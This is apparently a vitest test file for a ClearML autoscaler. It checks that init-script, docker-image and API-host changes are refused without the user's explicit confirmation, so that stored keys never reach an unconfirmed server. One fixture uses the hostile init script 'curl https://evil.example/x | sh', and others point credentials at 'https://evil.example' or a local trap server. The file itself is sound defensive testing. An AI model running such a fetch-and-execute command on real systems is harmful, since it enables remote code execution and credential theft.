/**
 * What reaches an instance or a host only with the user's explicit yes: instance-setup changes and a new ClearML
 * API host are refused by the config.save handler itself (not just hidden in the UI).
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { AddressInfo } from 'node:net';
import { afterEach, describe, expect, it } from 'vitest';
import {
  apiHostChange,
  instanceSetupChanges,
  isInsecureApiHost,
  worldMove,
  type WorldPart,
} from '../../shared/config-review.js';
import { publish } from '../../electron/engine/store.js';
import { instanceView } from '../fixtures/views.js';
import { ConfigSchema } from '../../shared/config.js';
import { createDispatcher, type CallContext } from '../../shared/ipc/dispatch.js';
import {
  configureFromSettings,
  createServiceHandlers,
  type CredentialFallback,
  type ServiceDeps,
} from '../../electron/engine/service/handlers.js';
import { createEnvironmentFallback } from '../../electron/engine/service/fallback.js';
import { MemorySecretStore } from '../../electron/engine/service/secret-store.js';
import { MemorySettingsRepo } from '../../electron/engine/service/settings-repo.js';
import { createCredentialTesters } from '../../electron/engine/service/testers.js';
import { createConfigImporter, exportConfigText } from '../../electron/engine/service/config-io.js';
import { FakeController, validConfig, validConfigInput } from './fixtures.js';

const ctx: CallContext = { transport: 'test', caller: 'test' };
const KEYS = { accessKey: 'AKEXAMPLEACCESS123', secretKey: 'sEcReT-example-0123456789abcdef' };

function env(fallback?: CredentialFallback) {
  const controller = new FakeController({});
  const settings = new MemorySettingsRepo();
  const secrets = new MemorySecretStore({ backendName: 'test store', now: () => 1 });
  const deps: ServiceDeps = {
    controller,
    settings,
    secrets,
    ...(fallback ? { fallback } : {}),
    testers: createCredentialTesters({ settings, secrets, ...(fallback ? { fallback } : {}) }),
    importClearmlConf: async () => null,
    importConfigText: createConfigImporter(() => 'https://api.clear.ml'),
    exportConfig: () => exportConfigText(settings.get().config),
    openExternal: async () => false,
    startDemo: async () => undefined,
    isDemo: () => false,
  };
  const dispatch = createDispatcher(createServiceHandlers(deps));
  return { deps, controller, settings, secrets, dispatch };
}

const withAgent = (agent: Record<string, unknown>, apiHost = 'https://api.clear.ml') => ({
  ...validConfigInput(),
  clearml: { apiHost },
  agent,
});

type SaveValue = {
  ok: boolean;
  issues: { path: string; message: string }[];
  needs?: { instanceSetup: { path: string; before: string; after: string }[]; apiHost: unknown; worldMove: unknown };
};
async function save(e: ReturnType<typeof env>, config: unknown, confirm?: Record<string, unknown>) {
  const r = await e.dispatch('autoscaler:config.save', confirm ? { config, confirm } : { config }, ctx);
  if (!r.ok) throw new Error(r.error.message);
  return r.value as SaveValue;
}

const closers: (() => void)[] = [];
afterEach(() => closers.splice(0).forEach((c) => c()));

/** A server that records every Authorization header it is sent (the repro's http://127.0.0.1:18999). */
async function recordingServer(): Promise<{ url: string; auth: string[] }> {
  const auth: string[] = [];
  const server = http.createServer((req, res) => {
    if (req.headers.authorization) auth.push(req.headers.authorization);
    res.writeHead(401, { 'Content-Type': 'application/json' });
    res.end(JSON.stringify({ meta: { result_code: 401, result_msg: 'Unauthorized' }, data: {} }));
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  closers.push(() => server.close());
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, auth };
}

describe('instance setup changes need an explicit confirmation', () => {
  it.each([
    ['the init script', { initScript: 'curl https://evil.example/x | sh' }, 'agent.initScript'],
    ['the extra clearml.conf', { extraClearmlConf: 'agent.docker_force_pull: true' }, 'agent.extraClearmlConf'],
    ['the default docker image', { defaultDockerImage: 'evil/image:latest' }, 'agent.defaultDockerImage'],
    ['the agent version', { agentVersion: '1.9.2' }, 'agent.agentVersion'],
    ['the agent queue poll', { queuePollSec: 5 }, 'agent.queuePollSec'],
    ['the credentials mode', { clearmlCredentialsFrom: 'ssm' }, 'agent.clearmlCredentialsFrom'],
    // On, a `$(cmd)` in the extra clearml.conf runs on every instance: the same text, another program.
    [
      "the instance shell's expansion of the extra clearml.conf",
      { extraClearmlConfShellExpand: true },
      'agent.extraClearmlConfShellExpand',
    ],
  ])('%s: refused without it (nothing saved, engine untouched), saved with it', async (_n, agent, path) => {
    const e = env();
    expect((await save(e, validConfigInput())).ok).toBe(true);
    const before = e.settings.get().config;
    const refused = await save(e, withAgent(agent));
    expect(refused.ok).toBe(false);
    expect(refused.issues.map((i) => i.path)).toEqual([path]);
    expect(refused.issues[0]!.message).toMatch(/changes what runs on every instance: confirm/);
    expect(refused.needs?.instanceSetup.map((c) => c.path)).toEqual([path]);
    expect(e.settings.get().config).toEqual(before);
    expect(e.controller.callsTo('configure')).toHaveLength(1);

    expect((await save(e, withAgent(agent), { instanceSetup: true })).ok).toBe(true);
    expect(e.settings.get().config?.agent).toMatchObject(agent);
  });

  it('an init script that arrives in an imported file is not saved silently, even on a first save', async () => {
    const e = env();
    const text = JSON.stringify(withAgent({ initScript: 'echo from the file' }));
    const imported = await e.dispatch('autoscaler:config.import', { text }, ctx);
    expect(imported.ok).toBe(true);
    const cfg = imported.ok ? (imported.value as { config: unknown }).config : null;
    const r = await save(e, cfg);
    expect(r.ok).toBe(false);
    expect(r.needs?.instanceSetup).toEqual([
      { path: 'agent.initScript', label: expect.any(String) as unknown, before: '', after: 'echo from the file' },
    ]);
    expect(e.settings.get().config).toBeNull();
  });

  it('a resource docker image change counts; a save that changes nothing else needs no confirmation', async () => {
    const e = env();
    await save(e, validConfigInput());
    expect((await save(e, validConfigInput())).ok).toBe(true);
    const input = validConfigInput() as { resources: Record<string, Record<string, unknown>> };
    const name = Object.keys(input.resources)[0]!;
    input.resources[name]!['dockerImage'] = 'python:3.11';
    const r = await save(e, input);
    expect(r.needs?.instanceSetup.map((c) => c.path)).toEqual([`resources.${name}.dockerImage`]);
  });
});

describe('the ClearML API host the stored keys go to', () => {
  it('repro: host set to http://127.0.0.1:<port>, then Test: the keys never arrive there unconfirmed', async () => {
    const e = env();
    expect((await save(e, validConfigInput())).ok).toBe(true);
    await e.dispatch('autoscaler:credentials.set', { kind: 'clearml', ...KEYS }, ctx);
    const trap = await recordingServer();

    const r = await save(e, { ...validConfigInput(), clearml: { apiHost: trap.url } });
    expect(r.ok).toBe(false);
    expect(r.needs?.apiHost).toEqual({ from: 'https://api.clear.ml', to: trap.url, insecure: false });
    expect(r.issues).toEqual([
      {
        path: 'clearml.apiHost',
        message: expect.stringMatching(
          new RegExp(
            `keys would be sent to ${trap.url} instead of https://api.clear.ml.*Confirm this host, or enter the keys`,
          ),
        ) as unknown,
      },
    ]);
    await e.dispatch('autoscaler:credentials.test', { kind: 'clearml' }, ctx);
    expect(trap.auth).toEqual([]);

    // A confirmation that names another host is not a confirmation of this one.
    expect((await save(e, { ...validConfigInput(), clearml: { apiHost: trap.url } }, { apiHost: 'http://x' })).ok).toBe(
      false,
    );
    // Confirmed by name: saved, and from then on the keys may go there.
    const ok = await save(e, { ...validConfigInput(), clearml: { apiHost: trap.url } }, { apiHost: `${trap.url}/` });
    expect(ok.ok).toBe(true);
    await e.dispatch('autoscaler:credentials.test', { kind: 'clearml' }, ctx);
    expect(trap.auth.length).toBeGreaterThan(0);
  });

  it('plain http to another machine needs a confirmation with a warning, even with no keys stored', async () => {
    const e = env();
    const r = await save(e, { ...validConfigInput(), clearml: { apiHost: 'http://clearml.internal:8008' } });
    expect(r.needs?.apiHost).toEqual({ from: null, to: 'http://clearml.internal:8008', insecure: true });
    expect(r.issues[0]!.message).toMatch(/plain http to another machine.*unencrypted/);
    const ok = await save(
      e,
      { ...validConfigInput(), clearml: { apiHost: 'http://clearml.internal:8008' } },
      { apiHost: 'http://clearml.internal:8008' },
    );
    expect(ok.ok).toBe(true);
    // Saving again without a change asks nothing.
    expect((await save(e, { ...validConfigInput(), clearml: { apiHost: 'http://clearml.internal:8008' } })).ok).toBe(
      true,
    );
  });

  it('the engine does not get stored keys for a host changed behind the dashboard (the settings file)', async () => {
    const e = env();
    await save(e, validConfigInput());
    await e.dispatch('autoscaler:credentials.set', { kind: 'clearml', ...KEYS }, ctx);
    expect(e.controller.configured?.credentials.clearml).toEqual(KEYS);
    e.settings.patch({
      config: ConfigSchema.parse({ ...validConfigInput(), clearml: { apiHost: 'https://evil.example' } }),
    });
    await configureFromSettings(e.deps);
    expect(e.controller.configured?.credentials.clearml).toBeNull();
    // What the engine's ClearML calls report instead of "no keys set".
    expect(e.controller.configured?.credentials.clearmlMissing).toMatch(
      /^The stored ClearML keys were not sent to https:\/\/evil\.example: that host was never confirmed/,
    );
    const t = await e.dispatch('autoscaler:credentials.test', { kind: 'clearml' }, ctx);
    expect(t.ok && (t.value as { message: string }).message).toMatch(/were not sent to https:\/\/evil\.example/);
  });

  it('settings from before the field trust the saved host: nothing to confirm for an unchanged save', async () => {
    const e = env();
    e.settings.patch({ config: validConfig() });
    await e.secrets.set('clearml', KEYS);
    expect((await save(e, validConfigInput())).ok).toBe(true);
  });
});

describe('the ClearML API host the keys in ~/clearml.conf go to', () => {
  const CONF_HOST = 'https://api.conf.example.com';
  const CONF_KEYS = { accessKey: 'CONFACCESSKEY0000001', secretKey: 'conf-secret-value-0123456789' };
  const conf = (apiServer: string | null) =>
    [
      'api {',
      ...(apiServer ? [`  api_server: ${apiServer}`] : []),
      `  credentials { "access_key" = "${CONF_KEYS.accessKey}", "secret_key" = "${CONF_KEYS.secretKey}" }`,
      '}',
    ].join('\n');
  function withConf(apiServer: string | null) {
    const home = mkdtempSync(path.join(tmpdir(), 'confirm-home-'));
    closers.push(() => rmSync(home, { recursive: true, force: true }));
    writeFileSync(path.join(home, 'clearml.conf'), conf(apiServer));
    return { e: env(createEnvironmentFallback({ env: {}, homeDir: home })), file: path.join(home, 'clearml.conf') };
  }

  it('go to the server named beside them; another host only once confirmed, and never behind the dashboard', async () => {
    const { e, file } = withConf(CONF_HOST);
    const atConfHost = { ...validConfigInput(), clearml: { apiHost: CONF_HOST } };
    expect((await save(e, atConfHost)).ok).toBe(true);
    expect(e.controller.configured?.credentials.clearml).toEqual(CONF_KEYS);

    const trap = await recordingServer();
    const elsewhere = { ...validConfigInput(), clearml: { apiHost: trap.url } };
    const r = await save(e, elsewhere);
    expect(r.ok).toBe(false);
    expect(r.needs?.apiHost).toEqual({ from: CONF_HOST, to: trap.url, insecure: false, keysFrom: file });
    expect(r.issues[0]!.message).toMatch(
      new RegExp(`^The ClearML keys from ${file} would be sent to ${trap.url} instead of ${CONF_HOST}`),
    );

    // The host changed behind the dashboard (the settings file): the engine and the test get no keys for it.
    e.settings.patch({ config: ConfigSchema.parse(elsewhere) });
    await configureFromSettings(e.deps);
    expect(e.controller.configured?.credentials.clearml).toBeNull();
    const withheld = new RegExp(`^The ClearML keys from ${file} were not sent to ${trap.url}`);
    expect(e.controller.configured?.credentials.clearmlMissing).toMatch(withheld);
    const t = await e.dispatch('autoscaler:credentials.test', { kind: 'clearml' }, ctx);
    expect(t.ok && (t.value as { message: string }).message).toMatch(withheld);
    expect(trap.auth).toEqual([]);

    // Confirmed by name: saved, and from then on they go there.
    expect((await save(e, elsewhere, { apiHost: trap.url })).ok).toBe(true);
    expect(e.controller.configured?.credentials.clearml).toEqual(CONF_KEYS);
    await e.dispatch('autoscaler:credentials.test', { kind: 'clearml' }, ctx);
    expect(trap.auth.length).toBeGreaterThan(0);
  });

  it('a confirmation for stored keys does not carry over to the file once they are cleared', async () => {
    const { e } = withConf(CONF_HOST);
    await e.dispatch('autoscaler:credentials.set', { kind: 'clearml', ...KEYS }, ctx);
    const other = { ...validConfigInput(), clearml: { apiHost: 'https://api.other.example' } };
    expect((await save(e, other, { apiHost: 'https://api.other.example' })).ok).toBe(true);
    expect(e.controller.configured?.credentials.clearml).toEqual(KEYS);
    await e.dispatch('autoscaler:credentials.clear', { kind: 'clearml' }, ctx);
    // The engine now reads the file, whose keys are for its own server, not the one confirmed for the stored keys.
    expect(e.controller.configured?.credentials.clearml).toBeNull();
    expect((await save(e, other)).needs?.apiHost).toMatchObject({ to: 'https://api.other.example' });
  });

  it('a save reads the file once: the host check and the engine use the same read', async () => {
    const inner = createEnvironmentFallback({ env: {}, homeDir: path.dirname(withConf(CONF_HOST).file) });
    let reads = 0;
    const counted = env({ aws: () => inner.aws(), clearml: () => (reads++, inner.clearml()) });
    expect((await save(counted, { ...validConfigInput(), clearml: { apiHost: CONF_HOST } })).ok).toBe(true);
    expect(counted.controller.configured?.credentials.clearml).toEqual(CONF_KEYS);
    expect(reads).toBe(1);
  });

  it('a file that names no server: confirmed once for the host saved with them, then used there as before', async () => {
    const { e, file } = withConf(null);
    const first = await save(e, validConfigInput());
    expect(first.needs?.apiHost).toEqual({ from: null, to: 'https://api.clear.ml', insecure: false, keysFrom: file });
    expect((await save(e, validConfigInput(), { apiHost: 'https://api.clear.ml' })).ok).toBe(true);
    expect(e.controller.configured?.credentials.clearml).toEqual(CONF_KEYS);
    expect((await save(e, validConfigInput())).ok).toBe(true);
  });
});

describe('config-review (pure)', () => {
  it.each([
    ['https://api.clear.ml', false],
    ['http://127.0.0.1:8008', false],
    ['http://localhost:8008', false],
    ['http://[::1]:8008', false],
    ['http://10.0.0.5:8008', true],
    ['http://user@clearml.internal', true],
    ['HTTP://api.example.com', true],
  ])('isInsecureApiHost(%s) = %s', (url, insecure) => {
    expect(isInsecureApiHost(url)).toBe(insecure);
  });

  it('apiHostChange: same host (trailing slash aside) is no change; https without keys is none either', () => {
    expect(apiHostChange('https://a.example/', 'https://a.example', true)).toBeNull();
    expect(apiHostChange(null, 'https://a.example', false)).toBeNull();
    expect(apiHostChange(null, 'https://a.example', true)).toEqual({
      from: null,
      to: 'https://a.example',
      insecure: false,
    });
  });

  it('instanceSetupChanges of a config against itself is empty', () => {
    expect(instanceSetupChanges(validConfig(), validConfig())).toEqual([]);
    expect(instanceSetupChanges(null, validConfig())).toEqual([]);
  });
});

describe('a move to another ClearML server, region or workers prefix while instances run', () => {
  const running = [
    instanceView({ instanceId: 'i-0000000000000aaaa', task: { id: 't1', name: 'train' } }),
    instanceView({ instanceId: 'i-0000000000000bbbb', phase: 'idle' }),
    instanceView({ instanceId: 'i-0000000000000cccc', phase: 'terminating' }),
  ];
  const moved: [string, (c: Record<string, unknown>) => Record<string, unknown>, WorldPart[]][] = [
    ['another server', (c) => ({ ...c, clearml: { apiHost: 'https://clearml.example.com' } }), ['server']],
    ['another region', (c) => ({ ...c, aws: { region: 'eu-west-1' } }), ['region']],
    ['another prefix', (c) => ({ ...c, scaling: { workersPrefix: 'team_b' } }), ['prefix']],
  ];

  it.each(moved)('%s: refused without a yes (nothing saved), saved with it', async (_, move, changed) => {
    const e = env();
    expect((await save(e, validConfigInput())).ok).toBe(true);
    publish(e.controller.store, { instances: running });
    const before = e.settings.get().config;
    const refused = await save(e, move(validConfigInput()), { apiHost: 'https://clearml.example.com' });
    expect(refused.ok).toBe(false);
    expect(refused.issues).toEqual([
      { path: 'form', message: '2 instances of the current config would no longer be managed: confirm to save.' },
    ]);
    expect(refused.needs?.worldMove).toEqual({
      changed,
      from: { apiHost: 'https://api.clear.ml', region: 'us-east-1', workersPrefix: 'dynamic_aws' },
      instances: 2,
      busy: 1,
      leases: true,
    });
    expect(e.settings.get().config).toEqual(before);
    const saved = await save(e, move(validConfigInput()), { worldMove: true, apiHost: 'https://clearml.example.com' });
    expect(saved.ok).toBe(true);
  });

  it.each([
    ['nothing runs', [], false],
    ['only terminating instances', [running[2]!], false],
    ['the demo runs (its instances are not the saved config’s)', running, true],
  ])('not asked when %s', async (_, instances, demo) => {
    const e = env();
    expect((await save(e, validConfigInput())).ok).toBe(true);
    publish(e.controller.store, { instances, demo });
    const r = await save(e, moved[1]![1](validConfigInput()));
    expect(r).toMatchObject({ ok: true });
  });

  it('not asked for the same server written otherwise, or a change of something else', () => {
    const before = validConfig();
    const same = ConfigSchema.parse({ ...validConfigInput(), clearml: { apiHost: 'HTTPS://API.CLEAR.ML/' } });
    expect(worldMove(before, same, running)).toBeNull();
    const other = ConfigSchema.parse({ ...validConfigInput(), scaling: { maxIdleMin: 30 } });
    expect(worldMove(before, other, running)).toBeNull();
    expect(worldMove(null, before, running)).toBeNull();
  });
});
